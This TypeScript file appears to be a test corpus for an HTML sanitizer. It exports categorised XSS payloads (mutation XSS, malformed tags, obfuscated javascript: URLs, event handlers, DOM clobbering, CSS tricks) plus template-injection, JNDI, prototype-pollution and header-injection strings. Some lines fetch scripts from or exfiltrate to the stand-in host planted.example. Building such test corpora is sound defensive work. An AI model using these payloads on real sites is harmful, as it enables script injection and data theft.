/** What an element is marked with, so that it is known again where it must not be. */
const RUNS = '<img src=x onerror=planted() data-planted>'

/** In each of them the words of the elements below are markup; in HTML they are text. */
const FOREIGN = [
  '<svg data-planted>',
  '<math data-planted>',
  '<svg data-planted><desc>',
  '<math data-planted><mtext><mglyph>',
  '<math data-planted><annotation-xml encoding="text/html"><svg>',
  '<form data-planted><math><mtext></form><form><mglyph>',
]
const TEXT_IN_HTML = ['style', 'noscript', 'xmp', 'iframe', 'noembed', 'title', 'textarea']

/** Read once, what would run stands in an attribute; written out and read again, it is an element. */
const MUTATIONS = FOREIGN.flatMap((foreign) =>
  TEXT_IN_HTML.map((name) => `${foreign}<${name}><a title="</${name}>${RUNS}">`),
)

/** What a parser moves elsewhere: out of a table, a paragraph, a list or a heading. */
const MOVED = [
  ...['table', 'table><tbody', 'table><tr', 'table><caption', 'table><colgroup', 'select'].map(
    (outer) => `<${outer} data-planted>${RUNS}`,
  ),
  `<p data-planted><svg><p>${RUNS}</svg>`,
  `<svg data-planted></p><style><a id="</style>${RUNS}">`,
  `<math data-planted><br><style></math>${RUNS}</style>`,
  `<b data-planted><p></b>${RUNS}</p>`,
  `<a data-planted><table><a>${RUNS}</table>`,
  `<form data-planted><div></form><form>${RUNS}</div>`,
  `<h1 data-planted><table><h2>${RUNS}`,
  `<dl data-planted><dt><table><dd>${RUNS}`,
  `<nobr data-planted><nobr><i></nobr>${RUNS}`,
  `<select data-planted><template><style></select>${RUNS}</style>`,
  `<svg data-planted><foreignObject><math><mi><table>${RUNS}`,
]

/** What is not read at first: comments, templates, sections, instructions. */
const NOT_READ = [
  `<!--><b data-planted>${RUNS}-->`,
  `<!---><b data-planted>${RUNS}-->`,
  `<!-- a <!-- b --> ${RUNS} -->`,
  `<!-- a --!>${RUNS}`,
  `<!-- \`--><script data-planted>planted()</script>`,
  `<!a foo=">${RUNS}">`,
  `</a foo=">">${RUNS}`,
  `<?xml version="1.0"?>${RUNS}`,
  `<?php echo "?>${RUNS}"; ?>`,
  `<![CDATA[>${RUNS}]]>`,
  `<svg data-planted><![CDATA[<style>]]></svg>${RUNS}`,
  `<math data-planted><![CDATA[</math>${RUNS}]]>`,
  `<!DOCTYPE html [<!ENTITY x "y">]>${RUNS}`,
  `<template data-planted>${RUNS}</template>`,
  `<template data-planted><template>${RUNS}</template></template>${RUNS}`,
  `<div data-planted><template shadowrootmode=open>${RUNS}</template></div>`,
  `<noscript><p title="</noscript>${RUNS}">`,
  `<xmp><p title="</xmp>${RUNS}">`,
  `<plaintext data-planted>${RUNS}`,
  `<textarea data-planted></textarea x>${RUNS}`,
  `<title><!--</title>${RUNS}-->`,
  `<![if !IE]>${RUNS}<![endif]>`,
]

/** Tags that are not whole, and quotation marks where none are due. */
const HALF_OPEN = [
  '<img src=x onerror=planted() data-planted ',
  '<img src=x onerror=planted() data-planted//',
  '<img/src="x"/onerror="planted()"/data-planted>',
  '<img src=x onerror=planted()//data-planted data-planted',
  '<<img src=x onerror=planted() data-planted>',
  '<<script data-planted>planted()//<</script>',
  '<img """><script data-planted>planted()</script>">',
  '<img src=`x`onerror=planted() data-planted>',
  '<img src="x" \' onerror=planted() data-planted>',
  '<img x=">" src=x onerror=planted() data-planted>',
  '<img src=x:x onerror="planted()"data-planted>',
  '<IMG SRC=x OnErRoR=planted() DATA-PLANTED>',
  '<script data-planted>planted()',
  '<script/data-planted>planted()</script>',
  '<script\fdata-planted\f>planted()</script\f>',
  '<script data-planted>planted()</script/x>',
  '<script a=">" data-planted>planted()</script>',
  '<script data-planted><!--<script>\nplanted()</script>',
  '<script data-planted>planted`1`</script>',
  '<svg/onload=planted()/data-planted>',
  '<svg\tonload\n=\rplanted() data-planted>',
  '<svg onload =planted() data-planted x=>',
  '<a\u00a0onclick=planted() data-planted>x',
  '" autofocus onfocus=planted() data-planted x="',
  "' onmouseover='planted()' data-planted x='",
  'x onmouseover=planted() data-planted',
]

/** How an address says what it is, to a browser and not to a filter that looks for the word. */
const SCHEMES = [
  'JaVaScRiPt:planted()',
  'java\tscript:planted()',
  'java\nscript:planted()',
  'java\rscript:planted()',
  '\u0001javascript:planted()',
  ' \u000e javascript:planted()',
  'javascript\t:planted()',
  'javascript://planted.example/%0aplanted()',
  'javascript:void(0)?.x,planted()',
  'java&Tab;script&colon;planted&lpar;&rpar;',
  'java&#10;script:planted()',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;planted()',
  '&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A planted()',
  '&#0000106avascript:planted()',
  'javascript:%70lanted%28%29',
  'javascript:\\u0070lanted()',
  'vbscript:planted()',
  'data:text/html,<script>planted()</script>',
  'data:text/html;base64,PHNjcmlwdD5wbGFudGVkKCk8L3NjcmlwdD4=',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='planted()'/>",
  'blob:https://planted.example/0f8fad5b-d9cb-469f-a165-70867728950e',
  'view-source:javascript:planted()',
  '//planted.example/%2e%2e/x.js',
  '\\\\planted.example\\x.js',
]
const ADDRESSES = [
  ...SCHEMES.map((scheme) => `<a href="${scheme}" data-planted>x</a>`),
  ...SCHEMES.slice(0, 6).map((scheme) => `<iframe src="${scheme}" data-planted></iframe>`),
]

/** What leads a page, a form or a frame elsewhere, or fetches from elsewhere. */
const LEADS_AWAY = [
  '<form data-planted><button formaction="javascript:planted()">x</button></form>',
  '<form data-planted><input type=image src=x formaction="javascript:planted()"></form>',
  '<form id=f data-planted></form><button form=f formaction=//planted.example>x</button>',
  '<isindex type=image src=x action="javascript:planted()" data-planted>',
  '<meta http-equiv=refresh content="0;url=javascript:planted()" data-planted>',
  '<meta http-equiv=refresh content="0;,data:text/html,<script>planted()</script>" data-planted>',
  '<meta http-equiv=set-cookie content="a=1" data-planted>',
  '<meta http-equiv=Content-Security-Policy content="script-src *" data-planted>',
  '<meta charset=utf-7 data-planted>+ADw-script+AD4-planted()+ADw-/script+AD4-',
  '<iframe srcdoc="&lt;script&gt;parent.planted()&lt;/script&gt;" data-planted></iframe>',
  '<iframe srcdoc=\'&#x3c;svg onload="parent.planted()"&#x3e;\' data-planted></iframe>',
  '<iframe name="planted()" src="//planted.example" data-planted></iframe>',
  '<embed src="javascript:planted()" data-planted>',
  '<embed src="data:image/svg+xml,<svg/onload=planted()>" data-planted>',
  '<object data-planted><param name=src value="javascript:planted()"></object>',
  '<link rel=stylesheet href="javascript:planted()" data-planted>',
  '<link rel=import href="data:text/html,<script>planted()</script>" data-planted>',
  '<link rel=manifest href="//planted.example/x.json" data-planted>',
  '<base href="javascript:planted()//" data-planted>',
  '<base target="planted" data-planted>',
  '<svg data-planted><a xlink:href="javascript:planted()"><text y=9>x</text></a></svg>',
  '<svg data-planted><use href="data:image/svg+xml,<svg id=a onload=planted()/>#a"/></svg>',
  '<svg data-planted><animate attributeName=href values="javascript:planted()"/></svg>',
  '<svg data-planted><script href="data:,planted()"/></svg>',
  '<math href="javascript:planted()" data-planted>x</math>',
  '<a href=/ ping=//planted.example data-planted>x</a>',
  '<area href="javascript:planted()" shape=default data-planted>',
  '<img srcset="x, //planted.example/y 2x" onerror=planted() data-planted>',
  '<video poster="javascript:planted()" data-planted></video>',
  '<q cite="javascript:planted()" data-planted>x</q>',
  '<body background="javascript:planted()"><b data-planted>x</b>',
  '<script src=//planted.example/x.js data-planted></script>',
  '<script type=module data-planted>import("data:text/javascript,planted()")</script>',
  '<script type=importmap data-planted>{"imports":{"x":"//planted.example/"}}</script>',
]

/** What begins without anybody’s doing, or by a touch. */
const HANDLERS = [
  ...['onbegin', 'onend', 'onrepeat'].map(
    (name) => `<svg data-planted><set attributeName=x dur=1ms ${name}=planted() /></svg>`,
  ),
  ...[
    'audio src=x onerror',
    'embed src=x onload',
    'object data=x onerror',
    'link rel=stylesheet href=x onerror',
  ].map((start) => `<${start}=planted() data-planted>`),
  ...['style onload', 'body onload', 'body onpageshow', 'body onhashchange', 'marquee onstart'].map(
    (start) => `<${start}=planted() data-planted></${start.split(' ')[0]}>`,
  ),
  ...['onclick', 'onpointerover', 'oncopy', 'ondragstart', 'onanimationend', 'onbeforetoggle'].map(
    (name) => `<b tabindex=0 style=animation:x ${name}=planted() data-planted>x</b>`,
  ),
  '<input type=hidden oncontentvisibilityautostatechange=planted() data-planted>',
  '<x contenteditable onbeforeinput=planted() data-planted>x</x>',
  '<img src=x onerror="&#112;lanted()" data-planted>',
  '<img src=x onerror="window[`plan`+`ted`]()" data-planted>',
  '<img src=x onerror="\\u0070lanted()" data-planted>',
  '<img src=x onerror="setTimeout(name=`planted()`)" data-planted>',
  '<img src=x onerror=planted&lpar;&rpar; data-planted>',
]

/** Elements whose names stand before what a script believes to ask for. */
const CLOBBERING = [
  ...['attributes', 'nodeName', 'parentNode', 'innerHTML', 'submit', 'children'].map(
    (name) => `<form data-planted><input name=${name}></form>`,
  ),
  ...['cookie', 'body', 'getElementById', 'currentScript', 'location', 'implementation'].map(
    (name) => `<img name=${name} data-planted>`,
  ),
  ...['boot-data', 'planted', 'trustedTypes', 'localStorage'].map(
    (name) => `<a id=${name} href="cid:planted()" data-planted></a><a id=${name} name=x></a>`,
  ),
  '<form id=self data-planted><input name=document></form>',
  '<iframe name=top srcdoc="<a id=x name=y href=cid:planted()>" data-planted></iframe>',
]

/** Looks that run or ask for something, in browsers of yesterday or of today. */
const STYLES = [
  ...[
    'width:expression(planted())',
    'wid\\74h:exp/**/ression(planted())',
    'behavior:url(//planted.example/x.htc)',
    '-moz-binding:url(//planted.example/x.xml#x)',
    'background:url(javascript:planted())',
    "background-image:\\75 rl('java\\73 cript:planted()')",
    'list-style:url("data:image/svg+xml,<svg onload=planted()>")',
    'position:fixed;inset:0;z-index:9999',
  ].map((style) => `<b style='${style}' data-planted>x</b>`),
  '<style data-planted>@import "javascript:planted()";</style>',
  "<style data-planted>@\\69mport'//planted.example/x.css';</style>",
  '<style data-planted>[value^=a]{background:url(//planted.example/a)}</style>',
  '<style data-planted>*{x:expression(planted())}</style>',
  '<style>/*</style><b data-planted>*/</b>',
  '<svg data-planted><style>&lt;/style&gt;&lt;img src=x onerror=planted()&gt;</style></svg>',
]

/** What is no markup here: to a template, a message, a logger, a database or what decodes or cuts out once. */
export const TEXTS_OF_OTHER_LANGUAGES: readonly string[] = [
  '{{planted()}}',
  '{{{planted()}}}',
  "{{'a'.constructor.prototype.charAt=[].join;$eval('planted()')}}",
  '{% include "planted" %}',
  '<%= planted() %>',
  '<%- "<b data-planted>" %>',
  '#{planted()}',
  '*{T(java.lang.Runtime).getRuntime()}',
  '@{planted()}',
  '[[${planted()}]]',
  '$(planted)`planted`',
  '${jndi:ldap://planted.example/x}',
  '{planted}',
  '{planted, number, ::.00}',
  '{planted, plural, one {<b data-planted>#</b>}',
  "'{'planted'}' '' {0}",
  '<b data-planted>{planted}</b><c/>',
  '__proto__',
  'constructor',
  'toString',
  '{"__proto__":{"planted":true}}',
  'constructor[prototype][planted]=1',
  '<scr<script>ipt data-planted>planted()</scr</script>ipt>',
  '%25%33%43img src=x onerror=planted() data-planted%25%33%45',
  '&amp;lt;img src=x onerror=planted() data-planted&amp;gt;',
  '\\x3cimg src=x onerror=planted() data-planted\\x3e',
  '\\u003cimg src=x onerror=planted() data-planted\\u003e',
  '+ADw-img src=x onerror=planted() data-planted+AD4-',
  '\uff1cimg src=x onerror=planted() data-planted\uff1e',
  '\u2039img src=x onerror=planted() data-planted\u203a',
  '\u02c2script data-planted\u02c3planted()\u02c2/script\u02c3',
  '<\u200bimg src=x onerror=planted() data-planted>',
  '<\u017fcript data-planted>planted()</\u017fcript>',
  '\u202e>detnalp-atad b<\u202c',
  'java\u017fcript:planted()',
  "\\');planted();//",
  '*/planted()/*',
  ']]>*/planted()//',
  '\u2028planted()\u2029',
  ';planted()//\r\nSet-Cookie: planted=1',
  '=HYPERLINK("javascript:planted()")',
]

/** Of markup, by what a filter would have to know; each is read as elements by a page that takes it for markup. */
export const MARKUP_EVASIONS = {
  'what changes when it is read again': MUTATIONS,
  'what a parser moves elsewhere': MOVED,
  'what is not read at first': NOT_READ,
  'tags that are not whole': HALF_OPEN,
  'addresses that say it otherwise': ADDRESSES,
  'what leads away': LEADS_AWAY,
  'what begins by itself': HANDLERS,
  'names that stand before others': CLOBBERING,
  'looks that run': STYLES,
} as const satisfies Record<string, readonly string[]>
